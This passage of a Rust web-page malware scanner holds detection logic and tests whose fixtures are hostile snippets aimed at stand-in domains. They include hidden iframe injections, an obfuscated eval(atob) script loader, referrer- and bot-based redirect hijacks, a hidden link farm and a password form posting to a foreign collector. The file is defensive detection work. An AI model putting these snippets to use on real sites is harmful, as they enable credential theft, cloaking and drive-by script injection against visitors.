    for folded in sinks {
        if folded.sink.call.start >= range.start
            && folded.sink.call.end <= end
            && folded.urls().iter().any(|u| counts(u))
        {
            out.push(folded.sink.call.start);
        }
    }
    out.sort_unstable();
    out
}

/// The condition of an action in a statement like `cond && (location.href = u)`,
/// `cond || action` or `cond ? action : other` (what minifiers make of an `if`): the tokens
/// from the statement's start to the last `&&`, `||` or `?` before the action at its level.
fn short_circuit_condition(script: &Script<'_>, action: usize) -> Option<std::ops::Range<usize>> {
    let floor = action.saturating_sub(400);
    let mut depth = 0usize;
    let mut operator = None;
    let mut i = action;
    while i > floor {
        i -= 1;
        if script.tokens[i].kind != crate::script::Kind::Punct {
            continue;
        }
        match script.src(i) {
            ")" | "]" | "}" => depth += 1,
            "(" | "[" | "{" if depth > 0 => depth -= 1,
            // A parenthesis that only groups, `cond && (location.href = u)`: look further out.
            "(" if i > 0
                && script.tokens[i - 1].kind == crate::script::Kind::Punct
                && matches!(script.src(i - 1), "&&" | "||" | "?" | ":" | "(" | "!" | ",") => {}
            // An unmatched opener or a `;` starts the statement the action is in.
            "(" | "[" | "{" | ";" => break,
            "&&" | "||" | "?" if depth == 0 && operator.is_none() => operator = Some(i),
            _ => {}
        }
    }
    let start = if script.tokens[i].kind == crate::script::Kind::Punct
        && matches!(script.src(i), "(" | "[" | "{" | ";")
    {
        i + 1
    } else {
        i
    };
    let operator = operator?;
    // An `if` or a loop here is read as a branch, not as an expression.
    let keywords = ["if", "while", "for", "function"];
    if (start..operator).any(|t| keywords.contains(&script.src(t))) {
        return None;
    }
    (start < operator).then_some(start..operator)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `may_hold` as one overlapping search over every group's terms, as it was first written.
    fn may_hold_in_one_pass(condition: &Condition, text: &str) -> bool {
        let mut patterns = Vec::new();
        let mut pattern_groups = Vec::new();
        for (group, terms) in condition.groups.iter().enumerate() {
            for term in terms {
                patterns.push(term.clone());
                pattern_groups.push(group);
                if term.contains('.') {
                    patterns.push(term.replace('.', "\\."));
                    pattern_groups.push(group);
                }
            }
        }
        let finder = aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(&patterns)
            .unwrap();
        let mut seen = vec![false; condition.groups.len()];
        for m in finder.find_overlapping_iter(text) {
            seen[pattern_groups[m.pattern().as_usize()]] = true;
            if seen.iter().all(|&s| s) {
                return true;
            }
        }
        false
    }

    #[test]
    fn condition_may_hold_as_one_overlapping_pass_did() {
        use proptest::prelude::*;
        let terms = prop::sample::select(vec!["baidu", "du.com", "sm.cn", "so", "referrer", "a"]);
        let pieces = prop::sample::select(vec![
            "baidu", "BaiDu", ".com", "du", "sm\\.cn", "sm.cn", "so", "refer", "rer", "x", " ",
            "中", "if(", "A",
        ]);
        proptest!(ProptestConfig::with_cases(2000), |(
            groups in prop::collection::vec(prop::collection::vec(terms, 0..3), 0..3),
            parts in prop::collection::vec(pieces, 0..12),
        )| {
            let groups: Vec<Vec<String>> =
                groups.into_iter().map(|g| g.into_iter().map(String::from).collect()).collect();
            let condition = Condition::new(groups);
            let text: String = parts.concat();
            prop_assert_eq!(
                condition.may_hold(&text.to_ascii_lowercase()),
                may_hold_in_one_pass(&condition, &text)
            );
        });
    }
    use crate::extract::extract_html;

    fn evidence(check: &Check, html: &str, url: Option<&str>) -> Vec<(String, usize)> {
        let page = url.map(|u| url::Url::parse(u).unwrap());
        let doc = extract_html(html, page.as_ref());
        let site = Site::of(&doc, url);
        run(check, &doc, &site)
            .into_iter()
            .filter(|e| e.range.start != usize::MAX)
            .map(|e| {
                let zone = &doc.zone(e.zone).unwrap().text;
                (zone[e.range].to_string(), e.count)
            })
            .collect()
    }

    #[test]
    fn hidden_iframes_to_other_sites() {
        let check = Check::new(CheckKind::HiddenIframe);
        let html = r#"<iframe src="https://video.example.cn/v"></iframe>
            <iframe src="http://evil.test/x" width="0" height="0"></iframe>
            <div style="display:none"><iframe src="/own/page"></iframe></div>
            <iframe src="https://www.site.cn/counter" width=1 height=1></iframe>"#;
        assert_eq!(
            evidence(&check, html, Some("https://site.cn/")),
            vec![("http://evil.test/x".to_string(), 1)]
        );
        // Without a page URL every absolute URL is another site's.
        assert_eq!(evidence(&check, html, None).len(), 2);
        let hidden_block =
            r#"<div style="display:none"><iframe src="http://evil.test/"></iframe></div>"#;
        assert_eq!(evidence(&check, hidden_block, None).len(), 1);
        let mut tiny_only = check.clone();
        tiny_only.zero_size_only = true;
        assert!(evidence(&tiny_only, hidden_block, None).is_empty());
        assert_eq!(
            evidence(&tiny_only, html, Some("https://site.cn/")).len(),
            1
        );
        let mut allow = check.clone();
        allow.allow_domains = vec!["evil.test".into()];
        assert!(evidence(&allow, html, Some("https://site.cn/")).is_empty());
    }

    fn allow_list(lines: &[&str]) -> Option<std::sync::Arc<AllowList>> {
        let mut allow = AllowList::default();
        for line in lines {
            match super::super::domains::parse_line(line) {
                super::super::domains::Line::Entry(e) => allow.add(e).unwrap(),
                other => panic!("{line}: {other:?}"),
            }
        }
        Some(std::sync::Arc::new(allow))
    }

    #[test]
    fn hidden_iframes_of_listed_ad_and_analytics_hosts_do_not_count() {
        let mut check = Check::new(CheckKind::HiddenIframe);
        check.allow_list = allow_list(&["rfihub.com", "g.163.com", "full:cdn.test"]);
        let html = r#"<iframe src="http://20519889p.rfihub.com/ca.html?rb=5021" style="display:none" width="0" height="0"></iframe>
            <iframe src="https://g.163.com/r?site=netease" width="0" height="0"></iframe>
            <iframe src="https://cdn.test/x" width="0" height="0"></iframe>
            <iframe src="https://evil.cdn.test/x" width="0" height="0"></iframe>
            <iframe src="https://news.163.com/x" width="0" height="0"></iframe>"#;
        assert_eq!(
            evidence(&check, html, Some("https://www.site.cn/")),
            vec![
                ("https://evil.cdn.test/x".to_string(), 1),
                ("https://news.163.com/x".to_string(), 1)
            ]
        );
    }

    fn matched(check: &Check, html: &str, url: Option<&str>) -> Vec<String> {
        evidence(check, html, url)
            .into_iter()
            .map(|(m, _)| m)
            .collect()
    }

    #[test]
    fn written_iframes_count_when_tiny_foreign_known_and_not_ad_hosts() {
        let mut check = Check::new(CheckKind::WrittenIframe);
        check.allow_list = allow_list(&["doubleclick.net", "g.163.com"]);
        let page = |js: &str| format!("<p>x</p><script>{js}</script>");
        let hit = |js: &str| matched(&check, &page(js), Some("https://www.site.cn/"));
        assert_eq!(
            hit(
                r#"document.write('<iframe src="http://evil.test/a.htm" width="0" height="0"></iframe>');"#
            ),
            [
                r#"document.write('<iframe src="http://evil.test/a.htm" width="0" height="0"></iframe>')"#
            ]
        );
        assert_eq!(
            hit(r#"document.writeln("<iframe src=http://e.test/ style='display:none'>")"#).len(),
            1
        );
        assert_eq!(
            hit(r#"document.write(unescape('%3Ciframe src=http://e.test/ width=1%3E'))"#).len(),
            1
        );
        assert_eq!(
            hit(r#"el.innerHTML = '<iframe src="//e.test/?r=' + Math.random() + '" height=0>';"#)
                .len(),
            1
        );
        for quiet in [
            // Visible, or only `marginheight` zero.
            r#"document.write('<iframe src="http://e.test/" width="300" height="250"></iframe>')"#,
            r#"document.write("<iframe marginheight='0' marginwidth='0' height='168' width='140' src='http://e.test/'>")"#,
            // A chart that sizes itself with min-width.
            r#"document.write('<iframe src="http://e.test/" style="width:0;min-width:100%" height="400">')"#,
            // The host is only known at run time.
            r#"document.write('<iframe src="' + server + '/x.html" width=0 height=0>')"#,
            r#"document.write('<iframe src="http://' + h + '.e.test/" width=0>')"#,
            // Listed ad hosts, the page's own site, no write at all.
            r#"document.write('<iframe src="https://1.fls.doubleclick.net/activityi;ord=' + a + '?" width="1" height="1">')"#,
            r#"document.write('<iframe src="https://g.163.com/r?site=netease" width="0" height="0">')"#,
            r#"document.write('<iframe src="https://img.site.cn/c.html" width="0" height="0">')"#,
            r#"var html = '<iframe src="http://e.test/" width=0>';"#,
        ] {
            assert!(hit(quiet).is_empty(), "{quiet}");
        }
    }

    #[test]
    fn written_scripts_of_unlisted_sites() {
        let mut check = Check::new(CheckKind::WrittenScript);
        check.allow_list = allow_list(&["cnzz.com", "hm.baidu.com"]);
        let hit = |js: &str| matched(&check, &format!("<script>{js}</script>"), None);
        assert_eq!(
            hit(r#"if(/check/.test(location)){document.write('<script src="https://statsdot.eu/mage.js"></scr'+'ipt>')}"#).len(),
            1
        );
        assert!(
            hit(r#"document.write('<script src="https://hm.baidu.com/h.js?1"><\/script>')"#)
                .is_empty()
        );
        assert!(hit(r#"document.write(unescape("%3Cscript src='" + cnzz_protocol + "s5.cnzz.com/stat.php%3Fid%3D1'%3E%3C/script%3E"))"#).is_empty());
        assert!(hit(r#"document.write('<script src="/js/a.js"><\/script>')"#).is_empty());
    }

    #[test]
    fn encoded_scripts_count_when_they_decode_to_another_sites_url() {
        let mut check = Check::new(CheckKind::EncodedScript);
        check.allow_list = allow_list(&["google-analytics.com"]);
        let hit = |js: &str| matched(&check, &format!("<script>{js}</script>"), None);
        // eval(atob(...)) of document.write('<script src="http://js.evil.test/x.js">').
        let payload =
            "ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPSJodHRwOi8vanMuZXZpbC50ZXN0L3guanMiPicp";
        assert_eq!(hit(&format!("eval(atob('{payload}'))")).len(), 1);
        // The same, one more layer down: eval(atob(...)) of eval(unescape(...)).
        let inner = "eval(unescape('%64%6f%63%75%6d%65%6e%74%2e%77%72%69%74%65%28%22%3c%73%63%72%69%70%74%20%73%72%63%3d%68%74%74%70%3a%2f%2f%65%2e%74%65%73%74%2f%22%29'))";
        let outer = base64(inner);
        assert_eq!(hit(&format!("eval(atob('{outer}'))")).len(), 1);
        // Too little encoded, no URL, only a listed or relative URL.
        assert!(hit("document.write(unescape('%3Cscript src=http://e.test/a.js%3E'))").is_empty());
        let own_loader = base64(
            "var s=document.createElement('script');s.src='/static/app.js?v=20240101';document.body.appendChild(s)",
        );
        assert!(hit(&format!("eval(atob('{own_loader}'))")).is_empty());
        let ga = base64(
            "var s=document.createElement('script');s.src='https://www.google-analytics.com/analytics.js';",
        );
        assert!(hit(&format!("eval(atob('{ga}'))")).is_empty());
        let mut short = check.clone();
        short.min_encoded = 1;
        let html =
            "<script>document.write(unescape('%3Cscript src=http://e.test/a.js%3E'))</script>";
        assert_eq!(matched(&short, html, None).len(), 1);
    }

    fn base64(text: &str) -> String {
        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for chunk in text.as_bytes().chunks(3) {
            let b = [
                chunk[0],
                *chunk.get(1).unwrap_or(&0),
                *chunk.get(2).unwrap_or(&0),
            ];
            let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
            for i in 0..4 {
                if i <= chunk.len() {
                    out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
                } else {
                    out.push('=');
                }
            }
        }
        out
    }

    #[test]
    fn script_branches_count_by_what_they_do() {
        let mut spider = Check::new(CheckKind::ScriptBranch);
        spider.condition = Condition::new(vec![vec![
            "spider".into(),
            "googlebot".into(),
            "bingbot".into(),
        ]]);
        let mut hijack = Check::new(CheckKind::ScriptBranch);
        hijack.condition = Condition::new(vec![
            vec!["referrer".into()],
            vec!["baidu".into(), "sogou".into(), "sm.cn".into()],
        ]);
        let hit = |check: &Check, js: &str, url: Option<&str>| {
            matched(
                check,
                &format!("<a href=\"http://www.shop.test/\">home</a><script>{js}</script>"),
                url,
            )
        };
        assert_eq!(
            hit(
                &spider,
                "if(navigator.userAgent.indexOf('Baiduspider')<0){location.href='http://bet.test/'}",
                None
            ),
            ["if(navigator.userAgent.indexOf('Baiduspider')<0)"]
        );
        assert_eq!(
            hit(&spider, "function isBot(){return /googlebot/i.test(navigator.userAgent)} if (isBot()) { document.title = '葡京'; }", None).len(),
            1
        );
        assert_eq!(
            hit(&spider, "var a = navigator.userAgent; if (/spider/i.test(a)) { x(); } else { document.write('<a href=\"http://farm.test/\">1</a>'); }", None).len(),
            1
        );
        for quiet in [
            // Ad libraries skip bots; mobile switchers go to the same site.
            "function t(e){return navigator.userAgent.toLowerCase().indexOf(e)>-1} if(t('bingbot')||t('googlebot')){return}",
            "if (/iPhone|Android|Googlebot-Mobile/.test(navigator.userAgent)) { location.href = 'http://m.shop.test/'; }",
            // A redirect that does not depend on a bot test.
            "if (location.protocol == 'http:') { location.replace('https://other.test/'); } var bots = /googlebot/;",
        ] {
            assert!(hit(&spider, quiet, None).is_empty(), "{quiet}");
        }
        let bediger = "var r = document.referrer; r = r.toLowerCase(); var aSites = new Array('baidu.','sogou.','sm.');
            var b = false; for (i in aSites){ if (r.indexOf(aSites[i]) > 0){ b = true; break; } }
            if(b) { self.location = 'http://www.p99.test/'; }";
        assert_eq!(hit(&hijack, bediger, None), ["if(b)"]);
        assert_eq!(
            hit(&hijack, "var url = 'https://www.ag.test/'; if (/baidu|sogou/.test(document.referrer)) { window.location.href = url; }", None).len(),
            1
        );
        for quiet in [
            "if (document.referrer.indexOf('baidu') > -1) { _hmt.push(['_trackEvent', 'seo']); }",
            "if (/baidu/.test(document.referrer)) { new Image().src = 'https://stat.test/c?r=1'; }",
            "var u = document.referrer; if (/baidu|sogou/.test(u)) { location.href = '/landing/' + x; }",
            "if (/baidu/.test(document.referrer)) { location.href = 'http://' + host + '/x'; }",
        ] {
            assert!(hit(&hijack, quiet, None).is_empty(), "{quiet}");
        }
        // The page's own site, known from its URL.
        let own =
            "if (/baidu/.test(document.referrer)) { location.href = 'https://m.shop.test/x'; }";
        assert!(hit(&hijack, own, Some("https://www.shop.test/")).is_empty());
        // What minifiers make of an `if`: `cond && action`, `cond || action`, `cond ? a : b`.
        assert_eq!(
            hit(
                &hijack,
                "var r=document.referrer;/baidu|sogou/.test(r)&&(top.location.href=\"http://x.test/\")",
                None
            ),
            ["/baidu|sogou/.test(r)"]
        );
        assert_eq!(
            hit(
                &spider,
                "!function(){/baiduspider/i.test(navigator.userAgent)||(location.href=\"http://bet.test/\")}()",
                None
            ),
            ["/baiduspider/i.test(navigator.userAgent)"]
        );
        assert_eq!(
            hit(&spider, "var u=navigator.userAgent;u.indexOf('spider')<0?window.location.replace('http://bet.test/'):0;", None).len(),
            1
        );
        for quiet in [
            // A search link that carries the referrer is no branch on it.
            "location.href = 'http://www.baidu.com/s?wd=' + q + '&from=' + document.referrer;",
            "var m = /baidu/.test(document.referrer) && (location.href = 'https://m.shop.test/');",
            "var ok = /baidu/.test(document.referrer) && track('seo');",
        ] {
            assert!(hit(&hijack, quiet, None).is_empty(), "{quiet}");
        }
    }

    /// Hostile scripts (unclosed calls, deep brace-less nesting, one long string used by
    /// thousands of calls) cost time linear in their size, not quadratic.
    #[test]
    fn script_checks_stay_linear_on_hostile_scripts() {
        let mut branch = Check::new(CheckKind::ScriptBranch);
        branch.condition = Condition::new(vec![vec!["referrer".into()], vec!["baidu".into()]]);
        let checks = [
            Check::new(CheckKind::WrittenIframe),
            Check::new(CheckKind::EncodedScript),
            branch,
        ];
        let long = "x".repeat(200_000);
        let scripts = [
            "document.write(1 ".repeat(50_000),
            "if(a)".repeat(50_000) + "location.href='http://e.test/';",
            format!("var s='{long}';") + &"eval(s);".repeat(20_000),
            "if(/baidu/.test(document.referrer)){location.href='http://e.test/'}".repeat(5_000),
        ];
        for js in scripts {
            let html = format!("<script>{js}</script>");
            let doc = extract_html(&html, None);
            let started = std::time::Instant::now();
            let site = Site::of(&doc, None);
            for check in &checks {
                run(check, &doc, &site);
            }
            let took = started.elapsed();
            // Debug builds are 10-30x slower than release.
            assert!(
                took.as_secs_f64() < 20.0,
                "{} bytes took {took:?}",
                js.len()
            );
        }
    }

    #[test]
    fn hidden_link_farms_need_enough_links_to_unlinked_sites() {
        let mut check = Check::new(CheckKind::HiddenLinks);
        check.min_links = 3;
        let farm: String = (0..4)
            .map(|i| format!(r#"<a href="http://farm{i}.test/">彩票{i}</a>"#))
            .collect();
        let html = format!(
            r#"<a href="http://menu.test/">菜单</a><div style="display:none">{farm}
            <a href="http://menu.test/a">隐藏菜单</a></div>"#
        );
        assert_eq!(
            evidence(&check, &html, None),
            vec![("http://farm0.test/".to_string(), 4)]
        );
        check.min_links = 5;
        assert!(evidence(&check, &html, None).is_empty());
        check.min_links = 3;
        check.min_hosts = 5;
        assert!(evidence(&check, &html, None).is_empty());
    }

    #[test]
    fn password_forms_posting_elsewhere() {
        let any = Check::new(CheckKind::PasswordForm);
        let mut foreign = any.clone();
        foreign.foreign_only = true;
        let html = r#"<a href="https://www.bank.test/">首页</a>
            <form action="https://collect.evil.test/p.php"><input type=password></form>
            <form action="https://login.bank.test/"><input type=password></form>
            <form action="/search"><input name=q></form>"#;
        assert_eq!(
            evidence(&foreign, html, None),
            vec![("https://collect.evil.test/p.php".to_string(), 1)]
        );
        assert_eq!(evidence(&any, html, None).len(), 2);
        assert!(evidence(&any, "<form><input name=q></form>", None).is_empty());
    }

    #[test]
    fn locate_matches_in_order_and_skips_missing() {
        let zone = "http://a.test/ one\nhttp://b.test/\nhttp://a.test/ two";
        let urls = [
            "http://a.test/",
            "",
            "http://b.test/",
            "http://a.test/",
            "http://c.test/",
        ];
        let found = locate(zone, urls.into_iter());
        let texts: Vec<Option<usize>> = found.iter().map(|r| r.as_ref().map(|r| r.start)).collect();
        assert_eq!(texts, vec![Some(0), None, Some(19), Some(34), None]);
    }
}
